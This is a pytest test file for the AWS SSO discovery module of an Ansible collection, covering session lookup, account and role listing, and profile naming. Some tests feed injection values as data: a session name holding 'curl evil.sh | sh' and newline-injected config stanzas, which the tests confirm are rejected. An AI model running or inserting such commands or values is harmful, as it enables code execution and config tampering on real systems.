# -*- coding: utf-8 -*-
# Copyright: Recro platform team
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)

"""Discovery: which session, the listing through a real botocore client against the
stand-in portal, and the profiles named for what it lists."""

from __future__ import annotations

import pytest

from ansible_collections.recro.aws_sso.plugins.module_utils._aws import discovery
from ansible_collections.recro.aws_sso.plugins.module_utils._aws.config import AwsConfig
from ansible_collections.recro.aws_sso.plugins.module_utils._common.errors import ParameterError, ServiceError
from ansible_collections.recro.aws_sso.tests.support.aws_servers import DEFAULT_ORGANIZATION

pytest_plugins = ["ansible_collections.recro.aws_sso.tests.support.aws_fixtures"]

STANZA = "[sso-session recro]\nsso_start_url = https://recrocog.awsapps.com/start\nsso_region = eu-west-1\n"


def test_the_session_is_the_only_one_of_the_config_or_the_one_named():
    config = AwsConfig(STANZA)
    assert discovery.session_region(None, None, lambda: config, "/c") == (
        "recro",
        "eu-west-1",
        "https://recrocog.awsapps.com/start",
    )
    assert discovery.session_region("recro", None, lambda: config, "/c") == (
        "recro",
        "eu-west-1",
        "https://recrocog.awsapps.com/start",
    )


def test_the_only_session_of_the_config_must_have_a_valid_name():
    config = AwsConfig('[sso-session "x; curl evil.sh | sh"]\nsso_start_url = https://a.awsapps.com/start\n')
    with pytest.raises(ParameterError, match=r"^sso_session: 'x; curl evil.sh \| sh' is not a name"):
        discovery.session_region(None, None, lambda: config, "/c")


def test_with_the_region_given_the_config_is_not_read():
    def unread():
        raise AssertionError("read the config")

    assert discovery.session_region("recro", "us-east-1", unread, "/c") == ("recro", "us-east-1", None)
    with pytest.raises(ParameterError, match=r"^sso_region: 'us-east-1\\n\[profile x\]' "):
        discovery.session_region("recro", "us-east-1\n[profile x]", unread, "/c")


@pytest.mark.parametrize(
    "text, name, message",
    [
        ("", None, "sso_session: None is missing: /c has 0 [sso-session] stanzas (none); name one"),
        (
            STANZA + STANZA.replace("recro", "other"),
            None,
            "sso_session: None is missing: /c has 2 [sso-session] stanzas (recro, other); name one",
        ),
        (STANZA, "other", "sso_session: 'other' has no [sso-session other] stanza in /c; it has recro"),
        (
            "[sso-session recro]\nsso_start_url = https://x.awsapps.com/start\n",
            "recro",
            "sso_session: 'recro' has no sso_region in its [sso-session recro] stanza in /c",
        ),
    ],
)
def test_a_session_that_cannot_be_found_is_named(text, name, message):
    with pytest.raises(ParameterError) as raised:
        discovery.session_region(name, None, lambda: AwsConfig(text), "/c")
    assert str(raised.value) == message


def test_the_listing_reads_every_page_of_accounts_and_roles(aws_servers, monkeypatch):
    aws_servers.use_in_process(monkeypatch)
    token = aws_servers.portal.issue_access_token()
    accounts = discovery.list_accounts("recro", "us-east-1", token)
    assert [(a["account_id"], a["roles"]) for a in accounts] == [
        (a["accountId"], a["roles"]) for a in DEFAULT_ORGANIZATION["accounts"]
    ]
    assert len(aws_servers.portal.requests_for("ListAccountRoles")) == 4
    aws_servers.portal.clear_requests()
    assert [a["roles"] for a in discovery.list_accounts("recro", "us-east-1", token, include_roles=False)] == [[]] * 3
    assert aws_servers.portal.requests_for("ListAccountRoles") == []


def test_a_refused_token_is_a_service_error_without_the_token(aws_servers, monkeypatch):
    aws_servers.use_in_process(monkeypatch)
    with pytest.raises(ServiceError) as raised:
        discovery.list_accounts("recro", "us-east-1", "aoa-not-a-token", consequence="; nothing was changed")
    assert str(raised.value) == (
        "the SSO portal refused the login of sso-session recro (signed out, or the session ended): "
        "run `aws sso login --sso-session recro`; nothing was changed"
    )


def test_a_query_must_give_a_list_of_accounts():
    with pytest.raises(ParameterError) as raised:
        discovery.check_query_result("111111111111", "accounts[0].account_id", "discover.query")
    assert str(raised.value) == (
        "discover.query: 'accounts[0].account_id' gives '111111111111', not a list of accounts to name profiles for"
    )


def test_options_are_named_with_their_prefix():
    with pytest.raises(ParameterError, match=r"^discover\.profile_name_template: '\{nope\}' uses \{nope\}"):
        discovery.discovered_profiles("recro", [], "{nope}", prefix="discover.")
    with pytest.raises(ParameterError, match=r"^discover\.query: \{'x': 1\} is not an account"):
        discovery.discovered_profiles("recro", [{"x": 1}], "{role}", prefix="discover.")


def test_discovered_profiles_names_each_role_and_leaves_out_what_a_write_refuses():
    accounts = [
        dict(account_id="111111111111", account_name="RecroCog", roles=["adminAccess", "Evil\n[profile x]"]),
        dict(account_id="not-an-id", account_name="odd", roles=["readOnly"]),
        dict(account_id="222222222222", account_name="RECROCOG", roles=["adminAccess", "readOnly"]),
    ]
    profiles, skipped = discovery.discovered_profiles("recro", accounts, "{account_name}-{role}")
    assert profiles == [
        dict(name="recrocog-admin", sso_account_id="111111111111", sso_role_name="adminAccess"),
        dict(name="recrocog-readonly", sso_account_id="222222222222", sso_role_name="readOnly"),
    ]
    # The line break, the account ID that is not one, and the name the template gives twice.
    assert len(skipped) == 3
    assert any("Evil\\n[profile x]" in reason for reason in skipped)
    assert any("not-an-id" in reason for reason in skipped)
    assert any("names both" in reason for reason in skipped)


def test_a_listed_profile_takes_the_place_of_the_discovered_one_of_its_name():
    discovered = [dict(name="a", sso_account_id="1"), dict(name="b", sso_account_id="2"), dict(name="c")]
    listed = [dict(name="b", sso_account_id="9"), "not a dict", dict(name="d"), dict(name="b", sso_account_id="8")]
    merged = discovery.with_discovered(discovered, listed)
    assert merged == [
        dict(name="a", sso_account_id="1"),
        dict(name="b", sso_account_id="9"),
        dict(name="c"),
        # The rest as listed, so that the write still names and refuses them.
        "not a dict",
        dict(name="d"),
        dict(name="b", sso_account_id="8"),
    ]
    assert discovery.with_discovered(discovered, None) == discovered
